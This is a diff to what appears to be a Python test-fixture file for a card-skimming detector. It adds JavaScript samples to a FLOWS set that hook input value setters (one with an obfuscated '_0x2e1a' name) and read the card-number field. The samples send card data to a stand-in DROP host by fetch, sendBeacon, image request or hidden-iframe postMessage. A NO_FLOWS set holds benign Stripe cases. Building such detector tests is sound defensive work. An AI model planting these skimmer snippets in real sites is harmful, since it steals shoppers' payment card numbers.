@@ -129,6 +129,21 @@ FLOWS = {
         "Object.defineProperty(proto, 'value', {configurable: true, get: getter});\n"
         f"setTimeout(function () {{ fetch('{DROP}', {{method: 'POST', "
         f"body: JSON.stringify(seen)}}); }}, 3000);"),
+    "every field's value accessor hooked, descriptor under a name": (
+        "var proto = window.HTMLInputElement && window.HTMLInputElement.prototype;\n"
+        "var nativeSet = Object.getOwnPropertyDescriptor(proto, 'value').set; var seen = [];\n"
+        "function setter(v) { nativeSet.call(this, v); seen.push(String(v)); }\n"
+        "var _0x2e1a = {configurable: true, set: setter};\n"
+        "Object.defineProperty(proto, 'value', _0x2e1a);\n"
+        f"setTimeout(function () {{ fetch('{DROP}', {{method: 'POST', "
+        f"body: JSON.stringify(seen)}}); }}, 3000);"),
+    "posted to the window of a frame the script made": (
+        "var frame = document.createElement('iframe'); frame.style.display = 'none';\n"
+        f"frame.src = '{DROP}/frame.html'; document.body.appendChild(frame);\n"
+        "function deliver(m) { var w = frame && frame.contentWindow;\n"
+        "  if (w) w.postMessage(m, '*'); }\n"
+        "document.querySelector('#pay').addEventListener('click', function () {\n"
+        "  deliver(JSON.stringify({n: document.querySelector('#cc_number').value})); });"),
     "card number stripped to its digits": (
         "var pan = document.querySelector('#cc_number').value.replace(/\\D/g, '');\n"
         f"navigator.sendBeacon('{DROP}', pan);"),
@@ -211,6 +226,11 @@ NO_FLOWS = {
         "(function () { function replay(cfg) { var c = Object.assign({}, cfg);\n"
         f"    new Image().src = '{DROP}?c=' + JSON.stringify(c); }}\n"
         "  replay({rate: 1}); })();"),
+    "a processor's own frame": (
+        "var frame = document.createElement('iframe');\n"
+        "frame.src = 'https://js.stripe.com/v3/elements-inner-card.html';\n"
+        "document.body.appendChild(frame);\n"
+        "frame.contentWindow.postMessage({n: document.querySelector('#cc_number').value}, '*');"),
     "processor": "fetch('https://api.stripe.com/v1/tokens', {method: 'POST', "
                  "body: 'card[number]=' + document.querySelector('#cc_number').value});",
 }
